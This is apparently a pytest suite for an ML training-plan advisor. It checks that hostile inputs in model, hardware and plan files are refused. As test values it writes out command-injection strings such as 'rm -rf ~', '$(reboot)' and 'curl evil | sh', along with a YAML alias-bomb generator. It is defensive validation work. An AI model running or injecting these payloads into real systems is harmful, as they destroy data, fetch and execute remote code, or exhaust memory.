"""Hostile input (issue 12): control characters and metacharacters in names, alias bombs, deep
nesting, huge and non-UTF-8 files, absurd sizes, infinities, and mistyped plan predictions are
refused with exit 2 and the file and key named, each quickly and in bounded memory.

The time bounds below are hang guards (a bomb that is expanded runs for minutes and gigabytes),
not speed assertions."""

from __future__ import annotations

import copy
import json
import math
import time
import tracemalloc
from pathlib import Path

import pytest
import yaml

from advisor.errors import AdvisorError
from advisor.commands.inputs import resolve_inputs
from advisor.plan import dumps_plan, load_plan, plan_from_dict
from advisor.commands.recommend import recommend
from advisor.specs import limits
from advisor.specs.hardware import PROFILES_DIR, bundled_hardware, load_hardware
from advisor.specs.model import MODELS_DIR, bundled_models, load_model
from advisor.specs.untrusted import load_tree
from _cli import run_cli as _run_cli

HANG_GUARD_S = 10.0
MODEL = yaml.safe_load((MODELS_DIR / "gpt3-1.3b.yaml").read_text())
PROFILE = yaml.safe_load((PROFILES_DIR / "dgx-h100.yaml").read_text())


def _write_yaml(path: Path, data) -> Path:
    path.write_text(yaml.safe_dump(data, allow_unicode=False))
    return path


def _refused(load, *named: str) -> str:
    """Run load(); it must raise AdvisorError naming every string in `named`, within the hang guard."""
    start = time.perf_counter()
    with pytest.raises(AdvisorError) as err:
        load()
    assert time.perf_counter() - start < HANG_GUARD_S
    message = str(err.value)
    for word in named:
        assert word in message, (word, message)
    assert "\n" not in message and len(message) < 600, message
    return message


@pytest.fixture(scope="module")
def plan_dict():
    i = resolve_inputs("gpt3-1.3b", "dgx-h100", nodes=1, global_batch_size=64)
    return json.loads(dumps_plan(recommend(i.model, i.hardware, i.cluster, i.job, top_k=1).best))


# ---- names and strings ------------------------------------------------------------------------
@pytest.mark.parametrize("bad", ["gpt\nrm -rf ~", "gpt\r", "a\tb", "x\x85y", "x\u2028y", "x\u2029y", "x\x7fy",
                                 "x\u202ey"])
def test_control_characters_in_model_name_are_refused(tmp_path, bad):
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "name": bad})
    _refused(lambda: load_model(str(path)), str(path), "'name'", "control character")


@pytest.mark.parametrize("bad", ["gpt'; import os #", 'a"b', "$(reboot)", "`id`", "a;b", "a|b", "a&b", "a{b}",
                                 "a=b", "-rf", " leading", "a\\b", "a#b", "名字"])
def test_names_hold_only_safe_characters(tmp_path, bad):
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "name": bad})
    _refused(lambda: load_model(str(path)), str(path), "'name'", "a name may hold")


def test_names_that_people_use_still_load(tmp_path):
    for good in ("meta-llama/Llama-3-8B", "H100 SXM5 (80GB)", "dgx-h100[inter25+mem80]", "Intel(R) Xeon(R) CPU @ 2.20GHz"):
        path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "name": good})
        assert load_model(str(path)).name == good


def test_control_characters_in_hardware_and_device_names(tmp_path):
    path = _write_yaml(tmp_path / "h.yaml", {**PROFILE, "name": "dgx\nkind: Pod"})
    _refused(lambda: load_hardware(str(path)), str(path), "'name'")
    device = {**PROFILE["device"], "name": "H100\nimport os"}
    path = _write_yaml(tmp_path / "h.yaml", {**PROFILE, "device": device})
    _refused(lambda: load_hardware(str(path)), str(path), "device.name")


def test_control_characters_in_free_text_and_keys(tmp_path):
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "notes": "fine\x1b[2Jnot fine"})
    _refused(lambda: load_model(str(path)), "'notes'", "U+001B")
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "bad\nkey": 1})
    _refused(lambda: load_model(str(path)), "control character")


def test_long_values_are_refused_and_quoted_by_a_short_prefix(tmp_path):
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "name": "A" * 500})
    message = _refused(lambda: load_model(str(path)), "'name'", str(limits.MAX_NAME_CHARS))
    assert "A" * 41 not in message
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "name": "A" * 100_000})
    message = _refused(lambda: load_model(str(path)), "'name'", f"{limits.MAX_TEXT_CHARS:,}")
    assert "A" * 41 not in message
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, "notes": "B" * (limits.MAX_TEXT_CHARS + 1)})
    message = _refused(lambda: load_model(str(path)), "notes", f"{limits.MAX_TEXT_CHARS:,}")
    assert "B" * 41 not in message


def test_hostile_names_in_a_plan_are_refused_before_export(plan_dict, tmp_path, monkeypatch, capsys):
    for where in (("model", "name"), ("hardware", "name"), ("hardware", "device", "name")):
        data = copy.deepcopy(plan_dict)
        node = data
        for key in where[:-1]:
            node = node[key]
        node[where[-1]] = "x\nset +e; curl evil | sh"
        path = tmp_path / "plan.json"
        path.write_text(json.dumps(data))
        code, out, err = _run_cli(monkeypatch, capsys, "export", str(path), "--to", "megatron")
        assert code == 2 and out == "" and "Traceback" not in err
        assert ".".join(where) in err or f"'{where[-1]}'" in err, err
        assert err.count("\n") == 1, err      # the newline is quoted (repr), never written raw


# ---- bounded resources ------------------------------------------------------------------------
def _laughs(levels: int = 9, inside: str = "notes") -> str:
    text = 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    for i in range(1, levels):
        text += f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]\n"
    return text + f"{inside}: *a{levels - 1}\n"


@pytest.mark.parametrize("inside", ["notes", "name", "extra"])
def test_alias_bomb_is_refused_quickly_in_bounded_memory(tmp_path, inside):
    path = tmp_path / "bomb.yaml"
    path.write_text(_laughs(inside=inside))
    tracemalloc.start()
    try:
        _refused(lambda: load_model(str(path)), str(path), "alias")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 300 * 2 ** 20     # 9**9 = 387M strings if expanded


def test_alias_bomb_in_a_hardware_profile(tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(yaml.safe_dump(PROFILE) + _laughs(inside="notes").replace("a", "b"))
    _refused(lambda: load_hardware(str(path)), "alias")


@pytest.mark.parametrize("suffix", [".yaml", ".json"])
def test_fifty_thousand_nested_lists(tmp_path, suffix):
    path = tmp_path / f"deep{suffix}"
    path.write_text('{"name": ' + "[" * 50_000 + "]" * 50_000 + "}")
    _refused(lambda: load_model(str(path)), str(path), f"deeper than {limits.MAX_DEPTH}")


def test_without_libyaml_the_python_loader_bounds_nesting_and_bombs(tmp_path, monkeypatch):
    monkeypatch.setattr(yaml, "__with_libyaml__", False)
    path = tmp_path / "deep.yaml"
    path.write_text("[" * 50_000 + "]" * 50_000)
    _refused(lambda: load_model(str(path)), f"deeper than {limits.MAX_DEPTH}")
    path.write_text(_laughs())
    _refused(lambda: load_model(str(path)), "alias")
    assert load_model(str(MODELS_DIR / "mixtral-8x7b.yaml")).name == "mixtral-8x7b"


def test_deep_plan_json_is_refused(tmp_path):
    path = tmp_path / "plan.json"
    path.write_text("[" * 50_000 + "]" * 50_000)
    _refused(lambda: load_plan(path), "deeper than")


def test_thirty_megabyte_file_is_refused_before_parsing(tmp_path):
    path = tmp_path / "huge.yaml"
    with path.open("wb") as fh:     # sparse: 30 MB by size, nothing written
        fh.truncate(30 * 2 ** 20)
    _refused(lambda: load_model(str(path)), str(path), "30 MiB", "1 MiB")
    plan = tmp_path / "huge.json"
    with plan.open("wb") as fh:
        fh.truncate(30 * 2 ** 20)
    _refused(lambda: load_plan(plan), "30 MiB", "4 MiB")


def test_non_utf8_file_gives_one_sentence(tmp_path, monkeypatch, capsys):
    path = tmp_path / "latin1.yaml"
    path.write_bytes(yaml.safe_dump({**MODEL, "notes": "caf\u00e9"}, allow_unicode=True).encode("latin-1"))
    _refused(lambda: load_model(str(path)), str(path), "not UTF-8", "0xe9")
    code, _, err = _run_cli(monkeypatch, capsys, "estimate", "--model", str(path), "--hardware", "dgx-h100", "--nodes", "1")
    assert code == 2 and "not UTF-8" in err and "Traceback" not in err


@pytest.mark.parametrize("key, value, named", [
    ("num_layers", "1e30", "num_layers"),          # YAML 1.1 reads 1e30 as a string
    ("num_layers", 1e30, "num_layers"),
    ("num_layers", 10 ** 30, "2**53"),             # caught by the walk: beyond any float-exact integer
    ("num_layers", 10_001, "10,000"),
    ("hidden_size", 2 ** 21, f"{2 ** 20:,}"),
    ("vocab_size", 2 ** 25, f"{2 ** 24:,}"),
    ("seq_length", 2 ** 27, f"{limits.MAX_SEQ_LENGTH:,}"),
])
def test_absurd_model_sizes_are_refused_with_the_bound(tmp_path, key, value, named):
    path = _write_yaml(tmp_path / "m.yaml", {**MODEL, key: value})
    _refused(lambda: load_model(str(path)), key if named != "2**53" else "num_layers", named)


@pytest.mark.parametrize("literal", [".inf", "-.inf", ".nan", "1.0e999", "'1e999'", "1.0e19"])
def test_infinite_or_overflowing_numbers_in_a_profile(tmp_path, literal):
    text = yaml.safe_dump(PROFILE).replace("memory_gib: 80", f"memory_gib: {literal}", 1)
    assert f"memory_gib: {literal}" in text
    path = tmp_path / "h.yaml"
    path.write_text(text)
    _refused(lambda: load_hardware(str(path)), str(path), "memory_gib")


@pytest.mark.parametrize("digits", [100, 5000])
def test_huge_integers_are_refused_without_printing_them(tmp_path, digits):
    path = tmp_path / "m.yaml"
    path.write_text(yaml.safe_dump(MODEL).replace("num_layers: 24", "num_layers: " + "9" * digits))
    message = _refused(lambda: load_model(str(path)), str(path))
    assert "9" * 41 not in message and ("num_layers" in message or "4300 digits" in message)


def test_graph_files_get_the_same_checks(tmp_path):
    from advisor.graph.loader import load_graph

    path = tmp_path / "g.json"
    path.write_text('{"name": "g", "tensors": {"x": {"shape": [Infinity]}}, "operators": []}')
    _refused(lambda: load_graph(path), "Infinity")
    path.write_text('{"name": "g\\u2028x", "tensors": {}, "operators": []}')
    _refused(lambda: load_graph(path), "U+2028")


def test_devices_per_node_is_bounded(tmp_path):
    path = _write_yaml(tmp_path / "h.yaml", {**PROFILE, "node": {**PROFILE["node"], "devices_per_node": 10 ** 9}})
    _refused(lambda: load_hardware(str(path)), "devices_per_node", f"{limits.MAX_DEVICES_PER_NODE:,}")


def test_yaml_dates_and_non_string_keys_are_refused(tmp_path):
    path = tmp_path / "m.yaml"
    path.write_text(yaml.safe_dump(MODEL) + "extra: 2024-01-01\n")
    _refused(lambda: load_model(str(path)), "extra", "date")
    path.write_text(yaml.safe_dump(MODEL) + "1: one\n")
    _refused(lambda: load_model(str(path)), "not a string")


# ---- plans ----------------------------------------------------------------------------------
@pytest.mark.parametrize("literal", ["Infinity", "-Infinity", "NaN", "1e999"])
def test_json_infinity_in_a_plan_is_refused(plan_dict, tmp_path, literal):
    text = json.dumps(plan_dict).replace('"step_time_s": ', f'"step_time_s": {literal}, "was": ', 1)
    path = tmp_path / "plan.json"
    path.write_text(text)
    _refused(lambda: load_plan(path), str(path), "malformed JSON")


@pytest.mark.parametrize("key, value", [
    ("step_time_s", "fast"), ("tokens_per_s", [1.0]), ("mfu", True), ("memory_gib", [1, 2]),
    ("memory_gib", {"total": "lots"}), ("time_s", "slow"), ("bottleneck", 3), ("confidence", {"calibrated": "yes"}),
])
def test_prediction_with_wrong_types_is_refused_naming_the_field(plan_dict, tmp_path, monkeypatch, capsys, key, value):
    data = copy.deepcopy(plan_dict)
    data["prediction"][key] = value
    _refused(lambda: plan_from_dict(data), "prediction", key)
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data))
    code, out, err = _run_cli(monkeypatch, capsys, "export", str(path), "--to", "deepspeed")
    assert code == 2 and out == "" and key in err and "Traceback" not in err


def test_plan_writer_never_writes_infinity(plan_dict):
    plan = plan_from_dict(plan_dict)
    text = dumps_plan(plan)
    assert "Infinity" not in text and "NaN" not in text
    bad = plan_from_dict(copy.deepcopy(plan_dict))
    bad.prediction["step_time_s"] = math.inf     # a prediction mutated in memory after loading
    _refused(lambda: dumps_plan(bad), "infinite")


def test_cluster_size_in_a_plan_is_bounded(plan_dict):
    data = copy.deepcopy(plan_dict)
    data["cluster"] = {"nodes": 2 ** 40, "devices": 2 ** 43}
    _refused(lambda: plan_from_dict(data), "cluster", f"{limits.MAX_DEVICES:,}")


# ---- flags ----------------------------------------------------------------------------------
@pytest.mark.parametrize("args, named", [
    (["--devices", "1e17"], "--devices"),
    (["--devices", str(10 ** 17)], "1,048,576"),
    (["--nodes", str(10 ** 17)], "1,048,576"),
    (["--nodes", "1", "--tp", str(10 ** 30)], "--tp"),
    (["--nodes", "1", "--gbs", str(10 ** 30)], "--global-batch"),
    (["--nodes", "1", "--seq-len", str(10 ** 30)], "--seq-len"),
    (["--nodes", "1", "--tokens", "inf"], "--tokens"),
    (["--nodes", "1", "--tokens", "1e999"], "--tokens"),
])
def test_absurd_flags_exit_2(monkeypatch, capsys, args, named):
    start = time.perf_counter()
    code, out, err = _run_cli(monkeypatch, capsys, "estimate", "--model", "gpt3-1.3b", "--hardware", "dgx-h100", *args)
    assert time.perf_counter() - start < HANG_GUARD_S
    assert code == 2 and named in err and "Traceback" not in err, err


@pytest.mark.parametrize("flag", ["--mbs", "--ep", "--vpp"])
def test_absurd_recommend_pins_exit_2(monkeypatch, capsys, flag):
    code, _, err = _run_cli(monkeypatch, capsys, "recommend", "--model", "gpt3-1.3b", "--hardware", "dgx-h100",
                            "--nodes", "1", flag, str(10 ** 30))
    assert code == 2 and flag in err and "bound" in err, err


@pytest.mark.parametrize("args", [["--model", "x" * 5000], ["--model", "a\nb"], ["--model", "y" * 5000 + ".yaml"],
                                  ["--devices", "9" * 5000], ["--devices", "z" * 5000]])
def test_long_or_odd_flag_values_are_quoted_by_a_prefix(monkeypatch, capsys, args):
    base = {"--model": "gpt3-1.3b", "--hardware": "dgx-h100", "--nodes": "1"}
    if args[0] == "--devices":
        del base["--nodes"]
    base.update(dict(zip(args[::2], args[1::2])))
    code, _, err = _run_cli(monkeypatch, capsys, "estimate", *[x for kv in base.items() for x in kv])
    assert code == 2 and "Traceback" not in err
    assert len(err) < 1000 and err.count("\n") == 1, err


def test_whatif_overrides_are_bounded(monkeypatch, capsys):
    code, _, err = _run_cli(monkeypatch, capsys, "whatif", "--model", "gpt3-1.3b", "--hardware", "dgx-h100",
                            "--nodes", "1", "--memory-gib", "1e300")
    assert code == 2 and "--memory-gib" in err


# ---- what is bundled still loads ---------------------------------------------------------------
def test_every_bundled_file_passes_the_checks():
    for name in bundled_models():
        assert load_model(name).name
    for name in bundled_hardware():
        assert load_hardware(name).name
    shared = Path(__file__).resolve().parents[2] / "shared" / "validation"
    for path in sorted(shared.glob("*.yaml")):     # the calibration runs, where this checkout has them
        assert isinstance(load_tree(path), dict)
